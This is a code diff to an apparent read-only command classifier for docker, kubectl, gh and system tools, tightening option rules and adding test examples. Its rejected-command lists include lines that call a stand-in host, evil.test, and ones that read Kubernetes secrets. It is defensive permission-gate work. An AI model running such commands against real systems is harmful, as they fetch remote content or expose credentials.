@@ -33,15 +33,26 @@ const GH_LIST = [
   values(
     '-L --limit -S --search -s --state -l --label -a --assignee -A --author -R --repo -B --base -H --head -m --milestone'
   ),
+  values('-q --jq --json -t --template --sort --order'),
+  flags('-d --draft --archived --fork --source --exclude-drafts --exclude-pre-releases'),
+  flags('-w --web', { harm: 'opens a browser' })
+]
+const GH_RUNS = [
   values(
-    '-q --jq --json -t --template --sort --order -u --user -w --workflow -b --branch -c --commit -e --event --created'
+    '-L --limit -R --repo -q --jq --json -t --template -u --user -w --workflow -b --branch -c --commit -e --event -s --status --created'
   ),
-  flags('-d --draft --archived --fork --source --exclude-drafts --exclude-pre-releases')
+  flags('-a --all')
+]
+const GH_STATUS = [
+  values('-R --repo -q --jq --json -t --template'),
+  flags('-c --conflict-status'),
+  flags('-w --web', { harm: 'opens a browser' })
 ]
 const GH_VIEW = [
   values(
     '-R --repo -q --jq --json -t --template -j --job -b --branch -r --ref -a --attempt -i --interval --color'
   ),
+  flags('-w --web', { harm: 'opens a browser' }),
   flags(
     '-c --comments -v --verbose --log --log-failed --exit-status -y --yaml --patch --name-only --required --watch --fail-fast'
   )
@@ -55,14 +66,21 @@ const GH_FILES = [
   )
 ]
 
+/** `-f` is a file for most, and names no file for `logs`. */
 const KUBE = [
   values(
-    '-n --namespace -l --selector --field-selector -o --output -c --container --tail --since --since-time --sort-by --limit -L'
+    '-n --namespace -l --selector --field-selector -c --container --tail --since --since-time --sort-by --limit -L'
   ),
+  values('-o --output', { only: /^=?(?![\w-]*-file)/, otherwise: 'takes its format from a file' }),
+  values('-f --filename -k --kustomize', { role: 'read', harm: 'asks for what a file names' }),
   flags(
-    '-A --all-namespaces -w --watch --show-labels --no-headers -f --follow -p --previous --timestamps --all-containers'
+    '-A --all-namespaces -w --watch --show-labels --no-headers -p --previous --timestamps --all-containers'
   ),
   flags('--ignore-not-found --recursive --short --client --minify --containers --namespaced -R --show-events')
+]
+const KUBE_LOGS = [
+  ...KUBE.filter((option) => !option.names.includes('-f')),
+  flags('-f --follow --prefix --ignore-errors')
 ]
 
 const KUBE_FILES = [
@@ -111,7 +129,10 @@ export const SERVICES: readonly Row[] = [
       {
         names: ['compose'],
         order: 'first',
-        options: [values('-f --file', { role: 'read' }), values('-p --project-name --profile')],
+        options: [
+          values('-f --file', { role: 'read', only: /^[^:]*$/, otherwise: 'may fetch its file' }),
+          values('-p --project-name --profile')
+        ],
         subcommands: [
           shown('ps ls images', DOCKER_LIST),
           shown('logs', DOCKER_LOGS),
@@ -164,6 +185,8 @@ export const SERVICES: readonly Row[] = [
         'docker exec web ls',
         'docker rm x',
         'docker compose --env-file x ps',
+        'docker compose -f oci://evil.test/x ps',
+        'docker --host=tcp://x ps',
         'docker ps "$X"',
         'docker --version rm x'
       ]
@@ -176,7 +199,7 @@ export const SERVICES: readonly Row[] = [
     subcommands: [
       shown('get', KUBE, { rest: 'text', only: /^(?!secrets?\b)[^,]*$/i, excess: 'shows secrets' }),
       shown('describe', KUBE),
-      shown('logs', KUBE),
+      shown('logs', KUBE_LOGS),
       shown('explain', KUBE),
       shown('version api-resources api-versions', KUBE, {}),
       shown('cluster-info', [], {}),
@@ -227,6 +250,8 @@ export const SERVICES: readonly Row[] = [
       readOnly: [
         'kubectl get pods -n a',
         'kubectl -n a logs -f x',
+        "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
+        'kubectl get pods -o=wide',
         'kubectl describe pod x',
         'kubectl config current-context',
         'kubectl version --client'
@@ -236,7 +261,14 @@ export const SERVICES: readonly Row[] = [
         'kubectl get secret x -o yaml',
         'kubectl --kubeconfig=f get pods',
         'kubectl exec x -- ls',
-        'kubectl get pod,secret'
+        'kubectl get pod,secret',
+        'kubectl get -f pod.yaml',
+        'kubectl describe -f https://evil.test/x.yaml',
+        'kubectl get -k overlays/dev',
+        'kubectl get pods -o go-template-file=t',
+        'kubectl get pods --output=jsonpath-file=t',
+        'kubectl get pods -ocustom-columns-file=t',
+        'kubectl rollout status -f pod.yaml'
       ]
     }
   },
@@ -270,7 +302,8 @@ export const SERVICES: readonly Row[] = [
     options: [flags('--version --help', { mark: 'shows' })],
     subcommands: [
       group('pr', [
-        asked('list ls status', GH_LIST),
+        asked('list ls', GH_LIST),
+        asked('status', GH_STATUS, {}),
         asked('view diff checks', GH_VIEW),
         {
           names: ['create', 'edit', 'comment', 'review', 'merge'],
@@ -283,7 +316,8 @@ export const SERVICES: readonly Row[] = [
         ...effects('close', 'closes a pull request', true)
       ]),
       group('issue', [
-        asked('list ls status', GH_LIST),
+        asked('list ls', GH_LIST),
+        asked('status', GH_STATUS, {}),
         asked('view', GH_VIEW),
         {
           names: ['create', 'edit', 'comment'],
@@ -306,7 +340,7 @@ export const SERVICES: readonly Row[] = [
         ...effects('delete', 'deletes a repository', true)
       ]),
       group('run', [
-        asked('list ls', GH_LIST),
+        asked('list ls', GH_RUNS),
         asked('view watch', GH_VIEW),
         ...effects('rerun download', 'starts or downloads a run', false),
         ...effects('cancel delete', 'ends a run', true)
@@ -367,14 +401,19 @@ export const SERVICES: readonly Row[] = [
         names: ['api'],
         sends: true,
         options: [
-          values('-q --jq -t --template --hostname --cache -p --preview'),
+          values('-q --jq -t --template --cache -p --preview'),
+          values('--hostname', { harm: 'asks another host' }),
           flags('--paginate --slurp -i --include --silent'),
           values('-X --method -H --header', { harm: 'may change something on the server' }),
           values('-f --raw-field', { harm: 'sends data' }),
           values('-F --field', { role: 'sent', harm: 'sends data' }),
           values('--input', { role: 'read', harm: 'sends data' })
         ],
-        operands: { first: ['text'], only: /^(?!graphql$)/, excess: 'sends a query' }
+        operands: {
+          first: ['text'],
+          only: /^(?!graphql$)(?!.*:\/\/)/,
+          excess: 'sends a query or asks another host'
+        }
       },
       ...effects(
         'secret variable ssh-key gpg-key codespace extension alias config cache project ruleset browse attestation org completion',
@@ -387,6 +426,8 @@ export const SERVICES: readonly Row[] = [
         'gh pr view 5 --json title',
         'gh issue view 3 -c',
         'gh run view 1 --log',
+        'gh run list -w ci.yml -L5',
+        'gh pr status',
         'gh api repos/o/r -q .name',
         'gh auth status'
       ],
@@ -397,6 +438,14 @@ export const SERVICES: readonly Row[] = [
         'gh api x -f a=b',
         'gh auth status --show-token',
         'gh pr view --web',
+        'gh pr view -w 5',
+        'gh pr list -wL5',
+        'gh pr list -w -L5',
+        'gh pr status -c -w',
+        'gh issue list --web',
+        'gh label list -w',
+        'gh api --hostname evil.test user',
+        'gh api https://evil.test/x',
         'gh pr view "$X"'
       ]
     }
@@ -459,11 +508,12 @@ export const SERVICES: readonly Row[] = [
     order: 'first',
     options: [flags('-4 -6 -s -d -j -p -br -brief -c -o -color')],
     subcommands: [
-      { ...group('addr address a link l route r rule neigh n', [shown('show list ls', [])]), bare: 'shows' },
+      { ...group('addr address a link l rule neigh n', [shown('show list ls', [])]), bare: 'shows' },
+      { ...group('route r', [shown('show list ls get', [])]), bare: 'shows' },
       ...effects('netns tunnel xfrm tuntap', 'changes the network', false)
     ],
     examples: {
-      readOnly: ['ip addr', 'ip -br a', 'ip route show'],
+      readOnly: ['ip addr', 'ip -br a', 'ip route show', 'ip route get 10.0.0.1'],
       not: ['ip link set x up', 'ip netns exec a ls', 'ip -force link']
     }
   },
@@ -474,11 +524,28 @@ export const SERVICES: readonly Row[] = [
     examples: { readOnly: ['ifconfig', 'ifconfig eth0'], not: ['ifconfig eth0 down'] }
   },
   {
-    names: ['who', 'w', 'last', 'vmstat', 'pstree', 'lspci', 'lsusb', 'lsmod', 'sw_vers', 'sestatus'],
-    everyOptionHarmless: true,
+    names: ['who'],
+    options: [letters('aHsquwplbdmrtT')],
+    operands: { first: ['read', 'text'] },
+    examples: { readOnly: ['who', 'who -b', 'who am i'], not: ['who --frobnicate', 'who "$F"'] }
+  },
+  {
+    names: ['w', 'last', 'vmstat', 'pstree', 'lsmod', 'sw_vers', 'sestatus'],
     options: [letters('aHsquwpnlvt'), optional('--color')],
     operands: { rest: 'text' },
-    examples: { readOnly: ['who', 'w', 'last -n', 'vmstat 1 2', 'pstree -p'], not: ['who --frobnicate'] }
+    examples: {
+      readOnly: ['w', 'last -n', 'last reboot', 'vmstat 1 2', 'pstree -p'],
+      not: ['last -f wtmp', 'w --frobnicate']
+    }
+  },
+  {
+    names: ['lspci', 'lsusb'],
+    options: [letters('vnkbtmxD'), values('-s -d')],
+    operands: {},
+    examples: {
+      readOnly: ['lspci -v', 'lspci -nnk', 'lsusb -t'],
+      not: ['lspci -p file', 'lspci -q', 'lspci -i file', 'lspci -A x']
+    }
   },
   {
     names: ['dmesg'],
